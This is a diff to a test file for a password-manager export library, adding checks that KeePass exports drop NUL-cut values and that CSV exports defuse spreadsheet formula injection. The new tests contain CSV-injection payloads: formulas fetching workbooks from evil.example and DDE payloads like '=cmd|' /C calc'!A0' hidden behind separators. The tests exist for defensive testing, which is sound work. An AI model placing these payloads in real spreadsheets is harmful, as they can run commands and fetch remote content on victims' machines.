@@ -5,7 +5,13 @@ import { join } from "node:path";
 import { describe, expect, test } from "@jest/globals";
 import { type Item, platformRandom } from "@secret-handoff/protocol";
 import { SHORTEST_FILE_PASSWORD } from "@secret-handoff/protocol/saving";
-import { bitwardenFile, csvFile, filePassword, kdbxFile } from "@secret-handoff/protocol/saving/managers";
+import {
+  bitwardenFile,
+  csvFile,
+  filePassword,
+  isHeldByKeePass,
+  kdbxFile,
+} from "@secret-handoff/protocol/saving/managers";
 import { importBitwarden, importCsv, readKdbx, unescaped } from "./importers.ts";
 import { NAUGHTY } from "./naughty.ts";
 
@@ -81,8 +87,17 @@ describe("a file for KeePass", () => {
     ]) {
       const { UserName, Password, URL, Notes, otp, Title, ...rest } = entry?.strings ?? {};
       const found = new Set([UserName, Password, URL, Notes, otp, ...Object.values(rest)]);
-      expect(item.fields.filter(({ value }) => !found.has(value))).toEqual([]);
+      expect(item.fields.filter(({ value }) => !value.includes("\0") && !found.has(value))).toEqual([]);
     }
+  });
+
+  test("does not hold half of a value: one with a NUL, at which KeePassXC cuts it, is not in the file", async () => {
+    const field = (name: string, value: string) => ({ name, value, concealed: true });
+    const cut = [field("password", "half\0rest"), field("username", "\0"), field("token", "end\0")];
+    const item = { label: "cut", fields: [...cut, field("key", "whole")] };
+    expect(item.fields.filter(isHeldByKeePass)).toEqual([field("key", "whole")]);
+    const [entry] = readKdbx(await kdbx([item]), PASSWORD);
+    expect(Object.values(entry?.strings ?? {}).filter((value) => value !== "")).toEqual(["cut", "whole"]);
   });
 
   test("does not open with another password, and a changed byte is noticed", async () => {
@@ -193,7 +208,7 @@ describe.each(["1password", "apple", "keepassxc"] as const)("a CSV file for %s",
   });
 
   test("every naughty string is imported exactly, or it is told what happens to it", () => {
-    const { text, moved, altered } = csvFile([naughtyItem(true)], manager);
+    const { text, moved, leftOut, altered } = csvFile([naughtyItem(true)], manager);
     const rows = importCsv(manager, text);
     expect(rows.length).toBeGreaterThan(NAUGHTY.length - 3);
     const passwords = new Set(rows.map(({ password }) => password));
@@ -201,6 +216,7 @@ describe.each(["1password", "apple", "keepassxc"] as const)("a CSV file for %s",
     for (const [index, value] of NAUGHTY.entries()) {
       const name = `V${index}`;
       if (altered.includes(name)) expect(value).toContain("\r");
+      else if (leftOut.includes(name)) expect([name, passwords.has(value)]).toEqual([name, false]);
       else if (moved.includes(name))
         expect([...notes].some((text) => text.includes(`${name}: ${value}`))).toBe(true);
       else expect([name, passwords.has(value)]).toEqual([name, true]);
@@ -223,6 +239,51 @@ describe.each(["1password", "apple", "keepassxc"] as const)("a CSV file for %s",
       ...values.slice(3),
     ]);
     expect(rows[0]?.title).toBe(`'=HYPERLINK("x")`);
+  });
+
+  test("a value by which a spreadsheet would fetch another file is moved to the notes and named", () => {
+    const values = [
+      "='\\\\evil.example\\s\\[a.xlsx]S'!A1",
+      "='http://evil.example/[a.xlsx]S'!A1",
+      "+[a.xlsx]S!$A$1",
+      "-a.xlsx!name",
+      "='https://evil.example/a.ods'#$S.A1",
+      "\uff1d'\\\\evil.example\\s\\[a.xlsx]S' ! A1",
+    ];
+    const harmless = ["=p4ss!", "-K['x", "@home#$1", "-----BEGIN KEY-----"];
+    const fields = [...values, ...harmless].map((value, index) => ({
+      name: `V${index}`,
+      value,
+      concealed: true,
+    }));
+    const { text, moved, leftOut } = csvFile([{ label: "x", fields }], manager);
+    expect([moved, leftOut]).toEqual([values.map((_, index) => `V${index}`), []]);
+    const rows = importCsv(manager, text);
+    expect(rows.map(({ password }) => password).filter((cell) => cell !== "")).toEqual(harmless);
+  });
+
+  test("a formula behind what other countries divide cells at is in no cell, and its value is named as left out", () => {
+    const formula = "=cmd|' /C calc'!A0";
+    const fetch = "='http://evil.example/[a.xlsx]S'!A1";
+    const values = [`a;${formula}`, `a\t${fetch}`, `a\n${formula}`, `a; "${formula}`, "a;-cmd|' /C calc'!A0"];
+    const harmless = [
+      "a;b",
+      "a;=b",
+      "notes\n- the tunnel (office)\n- ask Mia!",
+      "-----BEGIN-----\n-----END-----",
+    ];
+    const fields = [...values, ...harmless].map((value, index) => ({
+      name: `V${index}`,
+      value,
+      concealed: true,
+    }));
+    const names = { name: `n;${formula}`, value: "named", concealed: false };
+    const { text, leftOut } = csvFile([{ label: `x;${formula}`, fields: [...fields, names] }], manager);
+    expect(leftOut).toEqual(values.map((_, index) => `V${index}`));
+    const rows = importCsv(manager, text);
+    expect(text).not.toMatch(/[;\t\n][\s"]*[=-](?:cmd|'http)/);
+    for (const value of harmless) expect(rows.map(({ password }) => password)).toContain(value);
+    expect(text).toContain(`n;'${formula}: named`);
   });
 });
 
